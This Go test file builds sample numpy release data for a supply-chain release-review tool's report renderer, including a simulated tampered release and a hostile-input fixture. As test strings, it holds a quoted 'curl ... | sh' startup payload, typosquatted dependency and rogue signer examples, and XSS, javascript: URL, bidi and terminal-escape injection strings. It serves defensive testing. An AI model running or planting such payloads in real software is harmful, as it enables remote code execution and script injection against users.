package report

import (
	"strings"
	"testing"
	"time"

	"github.com/distgate/distgate/approval"
	"github.com/distgate/distgate/attest"
	"github.com/distgate/distgate/staging"
	"github.com/distgate/distgate/staging/dist"
	"github.com/distgate/distgate/staging/rule"
)

var publisher = approval.Publisher{Kind: "GitHub", Repository: "numpy/numpy-release", Workflow: "wheels.yml", Environment: "pypi", Files: 72}

var noon = time.Date(2026, 1, 31, 12, 0, 0, 0, time.UTC)

// numpy is a release of numpy's size: 71 wheels and the sdist, as 2.4.2 has them.
func numpy(t testing.TB) Facts {
	t.Helper()
	r := approval.Review{
		Release: dist.Sum([]byte("numpy 2.4.2")), Project: "numpy", Version: "2.4.2", Index: "pypi", Environment: "pypi",
		Source: staging.Source{Repository: "https://github.com/numpy/numpy-release", RepositoryID: "1000",
			Commit: "9b4a0d6e1f90bbb5c77f1c2b16b1d7a9c5e0f3a4", Ref: "refs/heads/maintenance/2.4.x"},
		Hosted:  attest.EveryJob,
		LeftOut: []staging.LeaveOut{{Files: "*-pyodide_*_wasm32.whl", Reason: "PyPI takes no wasm wheels of this kind"}},
		Roots:   []dist.Digest{dist.Sum([]byte("root"))},
		Voting: approval.Voting{Need: 1, Roads: []approval.Road{approval.Environment}, MaxAge: 72 * 3600, People: []approval.Person{
			person(1, "charris"), person(2, "seberg"), person(3, "rgommers")}},
	}
	for i, name := range numpyNames() {
		parsed, err := dist.ParseFilename(name)
		if err != nil {
			t.Fatal(err)
		}
		file := approval.File{File: staging.File{Name: name, Kind: parsed.Kind, Digest: dist.Sum([]byte(name)),
			Size: 5_200_000 + int64(i*i*7919%155)*100_000, Metadata: dist.Sum([]byte("metadata")),
			Evidence: []attest.Evidence{evidence(name, "21551209034", "1")}}}
		if parsed.Kind == dist.Wheel {
			file.Tags = strings.Join([]string{parsed.Python, parsed.ABI, parsed.Platform}, "-")
		}
		r.Files, r.Bytes = append(r.Files, file), r.Bytes+file.Size
	}
	for _, name := range []string{"allowed_signers", "distgate.toml", "trusted_root.json"} {
		r.Policy.Files = append(r.Policy.Files, staging.PolicyLockFile{Name: name, Digest: dist.Sum([]byte(name)), Size: 1200})
	}
	r.Policy.Digest = dist.Sum([]byte("policy"))
	r.Proven = []approval.Note{{ID: "bytes", Text: "Each file was hashed here, and the release digest covers every file, its evidence, this list and the policy."},
		{ID: "provenance", Text: "Each file is named, by its name and SHA-256, in signed build provenance that meets the policy, and the provenance agrees with its certificate."}}
	r.NotProven = []approval.Note{{ID: "source", Text: "The source commit is what the certificate says of the run. That the files come from that commit and nothing else is the build's own word."}}
	return Facts{Review: r, Shown: dist.Sum([]byte("review")), Upload: "https://upload.pypi.org/legacy/", Time: noon,
		Links: Links{Run: "https://github.com/numpy/numpy-release/actions/runs/21551300000"},
		Votes: Votes{State: Waiting, Need: 1, Run: "https://github.com/numpy/numpy-release/actions/runs/21551300000", Until: noon.Add(72 * time.Hour),
			Voters: []approval.Voter{{Person: person(1, "charris"), Why: "started the build or the run that publishes"},
				{Person: person(2, "seberg")}, {Person: person(3, "rgommers")}}},
	}
}

func person(id int64, name string) approval.Person {
	return approval.Person{GitHub: id, Principals: []string{name + "@example.org"}}
}

func evidence(name, id, attempt string) attest.Evidence {
	const repository = "https://github.com/numpy/numpy-release"
	return attest.Evidence{Bundle: dist.Sum([]byte("bundle of " + name)), Root: dist.Sum([]byte("root")),
		SAN:    repository + "/.github/workflows/wheels.yml@refs/heads/maintenance/2.4.x",
		Issuer: "https://token.actions.githubusercontent.com", Runner: "github-hosted", Repository: repository,
		Commit: "9b4a0d6e1f90bbb5c77f1c2b16b1d7a9c5e0f3a4", Ref: "refs/heads/maintenance/2.4.x", Trigger: "workflow_dispatch",
		Run: repository + "/actions/runs/" + id + "/attempts/" + attempt, Hosted: attest.EveryJob, SignedAt: noon.Unix()}
}

// numpyNames are the names of numpy 2.4.2's files.
func numpyNames() (names []string) {
	x86 := func(python string) string {
		switch python {
		case "cp311":
			return "10_9"
		case "cp312":
			return "10_13"
		}
		return "10_15"
	}
	wheel := func(tag, platform string) { names = append(names, "numpy-2.4.2-"+tag+"-"+platform+".whl") }
	for _, python := range []string{"cp311", "cp312", "cp313", "cp313t", "cp314", "cp314t"} {
		tag := strings.TrimSuffix(python, "t") + "-" + python
		if !strings.HasSuffix(python, "t") {
			wheel(tag, "macosx_"+x86(python)+"_x86_64")
		}
		for _, platform := range []string{"macosx_11_0_arm64", "macosx_14_0_arm64", "macosx_14_0_x86_64",
			"manylinux_2_27_aarch64.manylinux_2_28_aarch64", "manylinux_2_27_x86_64.manylinux_2_28_x86_64",
			"musllinux_1_2_aarch64", "musllinux_1_2_x86_64", "win32", "win_amd64", "win_arm64"} {
			wheel(tag, platform)
		}
	}
	for _, platform := range []string{"macosx_10_15_x86_64", "macosx_11_0_arm64", "macosx_14_0_arm64", "macosx_14_0_x86_64",
		"manylinux_2_27_aarch64.manylinux_2_28_aarch64", "manylinux_2_27_x86_64.manylinux_2_28_x86_64", "win_amd64"} {
		wheel("pp311-pypy311_pp73", platform)
	}
	return append(names, "numpy-2.4.2.tar.gz")
}

// looked is the same release after everything about it was looked at.
func looked(t testing.TB) Facts {
	f := numpy(t)
	for i := range f.Review.Files {
		f.Review.Files[i].Contents = dist.Contents{Members: 1400, Unpacked: 4 * f.Review.Files[i].Size, EntryPoints: []dist.EntryPoint{
			{Group: "console_scripts", Name: "f2py", Object: "numpy.f2py.f2py2e:main"}}}
	}
	f.find(0, rule.Finding{Rule: rule.ScriptFile, Severity: rule.Remark, Where: "numpy-2.4.2.data/scripts/f2py", What: "installs a command"})
	f.Review.Source.Upstream = &staging.Upstream{Repository: "numpy/numpy", RepositoryID: "908607", Commit: "c81c49f77451340651a751e76bca607d85e4fd55",
		Declared: true, Branch: "maintenance/2.4.x", Tag: "v2.4.2", Tagged: staging.Before, TagObject: "1d6b11417761b2745bc51e04dd9eaef55688a7ea",
		Signed: "tag", Signature: staging.Signature{Verified: true, Reason: "valid", By: "charris@example.org"}, BuildBranch: "maintenance/2.4.x", Inputs: []string{"inputs.environment"}}
	since := approval.Since{Version: "2.4.1", Relation: approval.Earlier, Uploaded: "2026-01-10T09:00:00Z", Wheels: 71, Sdist: true,
		Metadata: []approval.Difference{{Field: "Classifier", Now: "Programming Language :: Python :: 3.15", Files: 71}},
		Members: []approval.MemberChange{
			{Name: "numpy/_core/tests/test_nep50.py", Kind: approval.Other, Was: -1, Now: 12_345, Files: 71},
			{Name: "numpy.libs/libscipy_openblas64_-1d2c0d1c.so", Kind: approval.Native, Was: -1, Now: 24_000_000, Like: "numpy.libs/libscipy_openblas64_-8fb3d286.so", Files: 12,
				In: "numpy-2.4.2-cp311-cp311-manylinux_2_27_x86_64.manylinux_2_28_x86_64.whl"},
			{Name: "numpy/version.py", Kind: approval.Other, Was: 290, Now: 292, Files: 71},
		},
		Provenance: approval.Attested{Version: "2.4.1", Files: 72, Attested: 72}, Before: approval.Attested{Version: "2.4.0", Files: 72, Attested: 72},
		Publishers: []approval.Publisher{publisher}}
	f.Match = &approval.Match{Repository: "numpy/numpy", Commit: "c81c49f77451340651a751e76bca607d85e4fd55"}
	for i, file := range f.Review.Files {
		since.Files = append(since.Files, approval.FileChange{Name: file.Name, Was: strings.Replace(file.Name, "2.4.2", "2.4.1", 1),
			Size: file.Size, WasSize: file.Size - int64(i%7-3)*40_000, Added: 1, Changed: 40})
		f.Match.Files = append(f.Match.Files, approval.Matched{File: file.Name, Members: 1400, Identical: 1390 - i%9, Native: i % 9, Format: 10})
	}
	f.Changes = &approval.Changes{Index: "pypi", Since: []approval.Since{since}, By: publisher,
		Policy: approval.PolicyChange{Release: dist.Sum([]byte("numpy 2.4.1")), Version: "2.4.1"}}
	f.Changes.Judge()
	return f
}

// find puts a finding into a file.
func (f Facts) find(file int, found rule.Finding) {
	at := &f.Review.Files[file]
	found.File = at.Name
	at.Contents.Findings = append(at.Contents.Findings, found)
}

// tampered is a release with one of everything that somebody might try.
func tampered(t testing.TB) Facts {
	f := looked(t)
	var wheels []string
	for _, file := range f.Review.Files[:71] {
		wheels = append(wheels, file.Name)
	}
	for i := range wheels {
		f.find(i, rule.Finding{Rule: rule.StartupCode, Severity: rule.Look,
			Where: "numpy-init.pth", What: "runs code at every start of Python: import os; os.system('curl -s https://numpy.example/x | sh')"})
	}
	f.find(71, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Refuse, Where: "PKG-INFO", What: "says version 2.5.0.dev0"})
	f.find(3, rule.Finding{Rule: rule.NativeMachine, Severity: rule.Look,
		Where: "numpy/_core/\u202etxt.exe\x1b[31m<script>alert(1)</script>", What: "has a native library for another machine"})
	since := &f.Changes.Since[0]
	since.Metadata = append(since.Metadata, approval.Difference{Field: "Requires-Dist", Now: "requests-toolbet>=1.0", Files: 71})
	since.EntryPoints = append(since.EntryPoints, approval.Difference{Field: "console_scripts", Now: "pip = numpy._pip:main", Files: 71})
	since.Members = append(since.Members, approval.MemberChange{Name: "numpy-init.pth", Kind: approval.Startup, Was: -1, Now: 88, Files: 71})
	since.Provenance.Attested, since.Publishers[0].Repository = 70, "mallory/numpy-release"
	since.Files[5].Was, since.Files[6].WasSize, since.Gone = "", 900_000, []string{"numpy-2.4.1-cp313-cp313t-win_arm64.whl"}
	f.Changes.Policy.Differences = []approval.Difference{{Field: "approval.need", Was: "2", Now: "1"},
		{Field: "allowed_signers", Now: "mallory@example.org namespaces=\"distgate\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKQ8Xl3s5J0GxQ4o2u9m0c5r8F7y6Qw1tZ3bV2nM4kL7"}}
	f.Changes.Gaps = []approval.Gap{{What: "what is in three wheels of 2.4.1", Why: "the index does not serve them in ranges"}}
	f.Changes.Judge()
	f.Match.Files[71].Unexplained = 2
	f.Match.Unexplained = []approval.MemberOf{{File: "numpy-2.4.2.tar.gz", Path: "numpy/_core/tests/data/good-large.bin"},
		{File: "numpy-2.4.2.tar.gz", Path: "m4/build-to-host.m4"}}
	f.Match.Findings = []rule.Finding{{Rule: rule.SourceUnexplained, Severity: rule.Look, File: "numpy-2.4.2.tar.gz",
		Where: "m4/build-to-host.m4", What: "nothing in the source commit explains it, nor 1 more of this file"}}
	f.Votes.Beware = []string{"4f1c9e0d2b7a, which has files of this one: seberg@example.org rejected it"}
	f.Review.Set = approval.Set{Varied: []approval.Variation{{Field: "Requires-Dist", Values: []approval.Variant{
		{Files: wheels[1:]}, {Values: []string{"requests-toolbet>=1.0"}, Files: wheels[:1]}}}}}
	f.Rebuild = &approval.Rebuild{Files: []approval.Rebuilt{{Name: wheels[0], Result: dist.Different, Members: []dist.Unlike{
		{Path: "numpy/__init__.py", One: "120 bytes", Two: "118 bytes"}}}, {Name: wheels[1], Gap: "the second build has no such file"}}}
	f.Rebuild.Judge()
	return f
}

// hostile has text from outside wherever it can stand, as bad as it gets.
func hostile(t testing.TB) Facts {
	const evil = "</script><img src=x onerror=alert(1)>&lt;`|*_[x](javascript:alert(1))\u202e\x1b[2J\n::error::@everyone \"'"
	f := tampered(t)
	f.Review.Project, f.Review.Version, f.Review.Index, f.Review.Environment = evil, evil, evil, evil
	*f.Review.Source.Upstream = staging.Upstream{Repository: evil, RepositoryID: evil, Commit: evil, Branch: evil, Tag: evil, Tagged: evil, Signed: evil,
		Signature: staging.Signature{Reason: evil, By: evil}, BuildBranch: evil, Inputs: []string{evil}, Declared: true}
	f.Review.Source = staging.Source{Upstream: f.Review.Source.Upstream, Repository: "javascript:alert(1)//" + evil, Commit: evil, Ref: evil}
	f.Review.LeftOut[0] = staging.LeaveOut{Files: evil, Reason: evil}
	f.Review.Policy.Files[0].Name, f.Upload, f.Links.Run = evil, evil, "javascript:alert(1)"
	for i := range f.Review.Files[:3] {
		file := &f.Review.Files[i]
		file.Name, file.Tags = evil, evil+"-"+evil+"-"+evil
		file.Evidence[0] = attest.Evidence{SAN: evil, Run: "javascript:alert(1)" + evil, Commit: evil, Ref: evil, Trigger: evil,
			Environment: evil, Runner: evil, Elsewhere: evil}
	}
	f.Match.Gaps = []approval.Gap{{What: evil, Why: evil}}
	f.find(2, rule.Finding{Rule: rule.ID(evil), Severity: rule.Severity(evil), Where: evil, What: evil})
	f.Review.Files[1].Contents.Startup, f.Review.Files[1].Contents.EntryPoints = []string{evil}, []dist.EntryPoint{{Group: evil, Name: evil, Object: evil}}
	f.Review.Files[0].Contents = dist.Contents{}
	f.Review.Origin = staging.Origin{Onto: evil, Artifacts: []staging.Artifact{{Name: evil, Repository: evil, Digest: evil, Superseded: true}},
		Replaced: []staging.Replacement{{Name: evil}}}
	since := &f.Changes.Since[0]
	since.Version, since.Uploaded, since.Gone, since.Before.Version = evil, evil, []string{evil}, evil
	since.Metadata = append(since.Metadata, approval.Difference{Field: evil, Was: evil, Now: evil})
	since.Members = append(since.Members, approval.MemberChange{Name: evil, Kind: evil, Like: evil})
	since.Files = append(since.Files, approval.FileChange{Name: evil, Was: evil})
	since.Publishers, since.Notes = []approval.Publisher{{Kind: evil, Repository: evil}}, []approval.Note{{ID: evil, Text: evil}}
	f.Changes.Policy.Version, f.Changes.Gaps = evil, []approval.Gap{{What: evil, Why: evil}}
	f.Changes.Policy.Differences = []approval.Difference{{Field: evil, Was: evil, Now: evil}}
	f.Changes.Judge()
	f.Match.Unexplained = append(f.Match.Unexplained, approval.MemberOf{File: evil, Path: evil})
	f.Votes.Beware, f.Votes.Error = []string{evil}, evil
	f.Votes.By = []approval.Ballot{{By: evil, Reason: evil, Acknowledged: []rule.ID{rule.ID(evil)}}}
	f.Votes.Refused = rule.Refusals{{File: evil, Rule: rule.ID(evil), Want: evil, Got: evil, Hint: evil}}
	f.Votes.Voters[0] = approval.Voter{Person: approval.Person{GitHub: 1, Principals: []string{evil}}, Why: "started the run"}
	f.Review.NotProven = append(f.Review.NotProven, approval.Note{ID: "x", Text: evil})
	f.Review.Set.Varied = []approval.Variation{{Field: evil, Values: []approval.Variant{{Values: []string{evil}, Files: []string{evil}}}}}
	f.Rebuild = &approval.Rebuild{Extra: []string{evil}, Files: []approval.Rebuilt{{Name: evil, Result: dist.Likeness(evil), Gap: evil,
		Members: []dist.Unlike{{Path: evil, One: evil, Two: evil}}}}}
	return f
}

// samples are the releases that the renderings are held against.
func samples(t testing.TB) map[string]Facts {
	small := numpy(t)
	small.Review.Files, small.Review.Project, small.Review.Voting.Roads = small.Review.Files[71:], "tiny", []approval.Road{approval.Signed}
	refused := looked(t)
	refused.Votes.State = Refused
	refused.Votes.Refused = rule.Refusals{{File: "x", Rule: rule.ReleaseRejected, Want: "no rejection by anyone on the list",
		Got: "seberg@example.org rejected it at 2026-01-31T11:00:00Z: the sdist is of another commit", Hint: "stage again"}}
	look := looked(t)
	look.find(71, rule.Finding{Rule: rule.NativeSource, Severity: rule.Look, Where: "numpy/_core/tests/data/x.so", What: "is machine code in an sdist"})
	rehearsal := looked(t)
	rehearsal.Review.Index, rehearsal.Votes.State, rehearsal.Votes.Need, rehearsal.Review.Voting.Need = "testpypi", Approved, 0, 0
	published := looked(t)
	published.Votes.State, published.Votes.By = Published, []approval.Ballot{{By: "seberg@example.org", GitHub: 2, Expires: noon.Add(time.Hour)}}
	published.Served.Time = noon
	for _, file := range published.Review.Files {
		published.Served.Files = append(published.Served.Files, File{Name: file.Name, Digest: file.Digest, Size: file.Size,
			URL: "https://files.pythonhosted.org/packages/" + file.Name})
	}
	return map[string]Facts{"numpy": numpy(t), "looked": looked(t), "look": look, "rehearsal": rehearsal, "tampered": tampered(t), "hostile": hostile(t), "tiny": small,
		"refused": refused, "published": published}
}

func TestSampleIsOfNumpysSize(t *testing.T) {
	if n := len(numpyNames()); n != 72 {
		t.Fatalf("%d files", n)
	}
}
